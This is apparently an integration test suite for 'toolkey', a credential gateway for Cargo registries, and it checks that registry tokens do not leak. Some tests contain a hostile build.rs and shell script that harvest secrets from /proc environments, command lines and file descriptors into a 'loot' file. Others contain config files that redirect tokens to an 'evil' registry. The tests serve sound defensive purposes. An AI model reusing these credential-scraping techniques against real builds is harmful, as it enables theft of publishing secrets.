/** Cargo through the gateway: the real Cargo, a registry over TLS that wants tokens, a build script that takes what it finds. */
import { mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { startCargoRegistry, type CargoRegistry } from "../../../fixtures/registries/cargo-registry.mjs";
import { asked, makeCargoProject, type CargoProject } from "../../../fixtures/tools/cargo-project.ts";
import { BIN, expectDone, makeHome, type TestHome } from "../../../fixtures/homes/home.ts";
import { missing } from "../../../fixtures/programs/programs.ts";
import { makeTls, type TestTls } from "../../../fixtures/network/tls.ts";

const READS = "S3CRET-that-reads-at-acme";
const PUBLISHES = "S3CRET-that-publishes-at-acme";
const OTHER = "S3CRET-of-the-other-registry";

describe.skipIf(missing("cargo", "rustc", "gcc", "ld"))("Cargo through the gateway", () => {
  let tls: TestTls;
  let home: TestHome;
  let registry: CargoRegistry;
  let evil: CargoRegistry;
  let project: CargoProject;
  let settings: string;

  beforeAll(async () => {
    tls = await makeTls();
    const options = { tls, crates: [{ name: "lib1" }, { name: "jwt" }, { name: "abc" }] };
    registry = await startCargoRegistry({
      ...options,
      registries: [
        { path: "/acme", tokens: [{ name: "reader", value: READS, mayOnlyRead: true }, { name: "publisher", value: PUBLISHES }] },
        { path: "/other", tokens: [{ name: "other", value: OTHER }] },
      ],
    });
    evil = await startCargoRegistry({ ...options, registries: [{ path: "/acme", tokens: [] }] });
    home = await makeHome();
    await home.init(tls.caFile);
    for (const [path, secret, aim] of [["/acme", READS, "reading"], ["/acme", PUBLISHES, "publishing"], ["/other", OTHER, "reading"]] as const)
      expectDone(await home.toolkey(["add", registry.index(path), "--tool", "cargo", "--for", aim], { stdin: secret }));
    project = await makeCargoProject(home, tls.caFile, { lib1: "acme", jwt: "other" });
    settings = await project.configure({ acme: registry.index("/acme"), other: registry.index("/other") });
    expectDone(await home.toolkey(["setup", "cargo"]));
  });
  afterAll(async () => {
    await home?.dispose();
    await registry?.close();
    await evil?.close();
    await tls?.remove();
  });
  beforeEach(async () => {
    registry.requests.length = 0;
    evil.requests.length = 0;
    rmSync(join(project.directory, ".cargo"), { recursive: true, force: true });
    rmSync(join(project.directory, "build.rs"), { force: true });
    await project.forget();
  });

  it("fetches from two registries with a token each, and leaves the lock file as it is without us", async () => {
    expectDone(await project.cargo(["fetch"]));
    const lock = await project.lock();
    const direct = asked(registry);
    registry.requests.length = 0;
    rmSync(join(project.own, "registry"), { recursive: true });
    const ended = expectDone(await project.led(["fetch", "--locked"]));
    expect(ended.stderr).toMatch(/^toolkey: cargo uses cargo-\w+ for https:\/\/localhost:\d+\/acme\/index through the gateway\ntoolkey: cargo uses cargo-\w+ for https:\/\/localhost:\d+\/other\/index through the gateway\n/);
    expect(await project.lock()).toBe(lock);
    // All but the first question, which has no token yet.
    expect(asked(registry).toSorted()).toEqual(direct.filter((line) => !line.endsWith(" as none")).toSorted());
    expect(asked(registry)).toContain("GET /other/api/v1/crates/jwt/1.0.0/download as other");
    await project.forget();
    expectDone(await project.led(["fetch"]));
    expect(await project.lock()).toBe(lock);
    expect(readFileSync(join(project.own, "config.toml"), "utf8")).toContain(settings);
  });

  it("fetches crates of two registries that are elsewhere at their host, where neither is nearer, with a token each", async () => {
    registry.sayCratesAt("/acme", `${registry.origin}/files/a`);
    registry.sayCratesAt("/other", `${registry.origin}/files/o`);
    try {
      expectDone(await project.led(["fetch"]));
      expect(asked(registry)).toEqual(expect.arrayContaining(["GET /files/a/lib1/1.0.0/download as reader", "GET /files/o/jwt/1.0.0/download as other"]));
      expect(registry.requests.filter(({ status }) => status !== 200)).toEqual([]);
    } finally {
      for (const path of ["/acme", "/other"]) registry.sayCratesAt(path, undefined);
    }
  });

  it("adds, updates and shows what the project needs", async () => {
    const manifest = readFileSync(join(project.directory, "Cargo.toml"), "utf8");
    expectDone(await project.led(["add", "abc", "--registry", "acme"]));
    expect(expectDone(await project.led(["tree", "--prefix", "none"])).stdout).toMatch(/^abc v1\.0\.0/m);
    expectDone(await project.led(["update"]));
    expect(await project.lock()).not.toContain("127.0.0.1");
    expect(registry.requests.filter(({ as, status }) => as === "none" || status !== 200)).toEqual([]);
    writeFileSync(join(project.directory, "Cargo.toml"), manifest);
  });

  it("builds in a session, where a build script gets no token by any door, and can't publish", async () => {
    const script = `
pid=$$
while [ "$pid" -gt 1 ]; do
  cat "/proc/$pid/environ" "/proc/$pid/cmdline" | tr '\\0' '\\n'
  for file in /proc/$pid/fd/*; do case $(readlink "$file") in *memfd*|*deleted*) cat "$file" ;; esac; done
  pid=$(sed 's/.*) . //; s/ .*//' "/proc/$pid/stat")
done 2>/dev/null
printf '%s\\n' '{"v":1,"registry":{"index-url":"${registry.index("/acme")}"},"kind":"get","operation":"publish"}' | ${BIN}/cargo-credential-toolkey --cargo-plugin
cat "$TOOLKEY_SESSION"/* 2>/dev/null
cd "$TMPDIR"; cargo search --registry acme x; cargo publish --registry acme
true`;
    await project.write("script.sh", script);
    await project.write("build.rs", `fn main() { let o = std::process::Command::new("sh").arg("script.sh").output().unwrap(); std::fs::write("loot", [o.stdout, o.stderr].concat()).unwrap(); }\n`);
    const ended = expectDone(await project.led(["build"]));
    expect(ended.stderr).toContain("toolkey: cargo and what it starts may use, through the gateway: cargo at ");
    const loot = readFileSync(join(project.directory, "loot"), "latin1");
    for (const secret of [READS, PUBLISHES, OTHER]) expect(loot).not.toContain(secret);
    expect(loot).toContain('{"Err":{"kind":"not-found"}}');
    // What it finds is a phantom: good for what the session may, and no more.
    const [phantom = ""] = /tkphantom_[\w-]+/.exec(loot) ?? [];
    const gateway = /http:\/\/127\.0\.0\.1:\d+/.exec(loot)?.[0] ?? "";
    expect(phantom).not.toBe("");
    expect((await fetch(`${gateway}/https/localhost:${registry.port}/acme/index/config.json`, { headers: { authorization: `Bearer ${phantom}` } })).status).toBe(403);
    expect(registry.requests.map(({ as }) => as)).not.toContain("publisher");
    expect(registry.requests.filter(({ method }) => method !== "GET")).toEqual([]);
  });

  it("lets a script in a session read what the session may, and neither change nor list anything", async () => {
    const origin = `https/localhost:${registry.port}`;
    const script = `for line in "GET acme/index/config.json" "GET acme/api/v1/crates/lib1/1.0.0/download" "GET acme/api/v1/me/tokens" "PUT acme/api/v1/crates/new" "DELETE acme/api/v1/crates/lib1/1.0.0/yank" "GET other/api/v1/me/tokens"; do
  set -- $line; printf '%s %s ' "$1" "$2" >> answers
  curl -s -o /dev/null -w '%{http_code}\\n' -X "$1" -H "Authorization: Bearer $PHANTOM" "$GATEWAY/${origin}/$2" >> answers
done`;
    await project.write("script.sh", script);
    await project.write("build.rs", `use std::{env, fs, process::Command};
fn main() {
  let pid = std::os::unix::process::parent_id();
  let line = fs::read_to_string(format!("/proc/{pid}/cmdline")).unwrap();
  let words: Vec<&str> = line.split('\\0').collect();
  let at = words.iter().position(|word| *word == "--config").unwrap();
  let text = fs::read_to_string(words[at + 1]).unwrap();
  let after = |mark: &str| text.split(mark).nth(1).unwrap().split('"').next().unwrap().to_string();
  let index = after("sparse+http://127.0.0.1:");
  let gateway = format!("http://127.0.0.1:{}", index.split('/').next().unwrap());
  env::set_current_dir(env::var("CARGO_MANIFEST_DIR").unwrap()).unwrap();
  assert!(Command::new("sh").arg("script.sh").env("PHANTOM", after("Bearer ")).env("GATEWAY", gateway).status().unwrap().success());
}
`);
    rmSync(join(project.directory, "answers"), { force: true });
    expectDone(await project.led(["build"]));
    expect(readFileSync(join(project.directory, "answers"), "utf8").trim().split("\n")).toEqual([
      "GET acme/index/config.json 200",
      "GET acme/api/v1/crates/lib1/1.0.0/download 200",
      "GET acme/api/v1/me/tokens 403",
      "PUT acme/api/v1/crates/new 403",
      "DELETE acme/api/v1/crates/lib1/1.0.0/yank 403",
      "GET other/api/v1/me/tokens 403",
    ]);
  });

  it("publishes what was built before, with the token for that, and builds what is to be published without it", async () => {
    expectDone(await project.led(["package", "--allow-dirty"]));
    expect(registry.requests.map(({ as }) => as)).not.toContain("publisher");
    registry.requests.length = 0;
    const refused = await project.led(["publish", "--registry", "acme", "--allow-dirty"]);
    expect(refused.stderr).toContain("toolkey: 'cargo publish' builds what it publishes, and asks the registry itself, so cargo gets no token\nhint: toolkey run -- cargo package, which builds it; then toolkey run -- cargo publish --no-verify\n");
    expect(registry.requests.filter(({ as }) => as !== "none")).toEqual([]);
    const ended = expectDone(await project.led(["publish", "--registry", "acme", "--allow-dirty", "--no-verify"]));
    expect(ended.stderr).toContain("toolkey: 'cargo publish' asks the registry itself, so cargo gets the token itself\n");
    expect(asked(registry)).toContain("PUT /acme/api/v1/crates/new as publisher");
    expect(asked(registry)).toContain("GET /other/index/3/j/jwt as other");
  });

  it.each<[what: string, text: () => string, works: boolean]>([
    ["another index by the name of a known registry", () => `[registries.acme]\nindex = "${evil.index("/acme")}"\n`, false],
    ["a source of its own that replaces the registry", () => `[source.mine]\nregistry = "${registry.index("/acme")}"\nreplace-with = "evil"\n[source.evil]\nregistry = "${evil.index("/acme")}"\n`, true],
    ["a provider of its own", () => `[registry]\nglobal-credential-providers = ["/bin/false"]\n[registries.acme]\ncredential-provider = ["/bin/false"]\n`, true],
    ["a proxy", () => `[http]\nproxy = "http://localhost:${evil.port}"\n`, true],
    ["certificates", () => `[http]\ncainfo = "evil.pem"\n`, true],
    ["what our registry is called", () => `[registries.toolkey-acme]\nindex = "${evil.index("/acme")}"\n[source.toolkey-acme]\nregistry = "${evil.index("/acme")}"\n`, true],
    ["git by its program", () => "[net]\ngit-fetch-with-cli = true\n", true],
  ])("a project with %s sends no token elsewhere", async (_what, text, works) => {
    await project.write(".cargo/config.toml", text());
    const ended = await project.led(["fetch"]);
    if (works) expectDone(ended);
    const elsewhere = evil.requests.map(({ as }) => as).filter((as) => as !== "none");
    expect(elsewhere).toEqual([]);
    expect(`${ended.stdout}${ended.stderr}`).not.toMatch(/S3CRET|tkphantom/);
  });

  it.each<[what: string, argv: string[], options: string[]]>([
    ["publishing", ["publish", "--no-verify", "--allow-dirty", "--registry", "acme"], []],
    ["fetching", ["fetch"], ["--direct"]],
  ])("a project whose files give the name of a registry to two has no token sent to the other one by %s", async (_what, argv, options) => {
    for (const order of [["a", "b"], ["b", "a"]]) {
      await project.write(".cargo/config.toml", `include = ["${order.join('.toml", "')}.toml"]\n`);
      await project.write(".cargo/a.toml", `[registries.acme]\nindex = "${registry.index("/acme")}"\n`);
      await project.write(".cargo/b.toml", `[registries.acme]\nindex = "${evil.index("/acme")}"\n`);
      await project.led(argv, { with: options });
    }
    expect(evil.requests.map(({ as }) => as).filter((as) => as !== "none")).toEqual([]);
    expect(registry.requests.map(({ as }) => as).filter((as) => as !== "none")).not.toEqual([]);
  });

  it("a registry whose crates are at another one by dots has nothing asked there with its token", async () => {
    registry.sayCratesAt("/acme", `${registry.origin}/../../https/localhost:${registry.port}/other/api/v1/crates/{crate}/{version}/download?x=1#`);
    await project.led(["fetch"]);
    registry.sayCratesAt("/acme", undefined);
    expect(registry.requests.filter(({ path, as }) => as === "other" && path.includes("/crates/lib1/"))).toEqual([]);
  });

  it("says which token is missing, and runs all the same", async () => {
    const other = join(home.directory, "elsewhere");
    mkdirSync(join(other, "src"), { recursive: true });
    writeFileSync(join(other, "src", "lib.rs"), "");
    writeFileSync(join(other, "Cargo.toml"), `[package]\nname = "x"\nversion = "0.1.0"\nedition = "2021"\n[dependencies]\nlib1 = { version = "1", registry-index = "${evil.index("/acme")}" }\n`);
    const ended = await project.led(["fetch"], { cwd: other });
    expect(ended).toMatchObject({ code: 101, stderr: expect.stringMatching(`toolkey: there is no cargo token for ${evil.origin}/acme/index: .*\nhint: toolkey add ${evil.origin}/acme/index --tool cargo\n`) });
  });

  it("hands over the tokens themselves with --direct, for this command alone", async () => {
    expectDone(await project.led(["fetch"], { with: ["--direct"] }));
    expect(asked(registry)).toContain("GET /acme/api/v1/crates/lib1/1.0.0/download as reader");
    expect(readFileSync(join(project.own, "config.toml"), "utf8")).not.toContain(READS);
  });
});
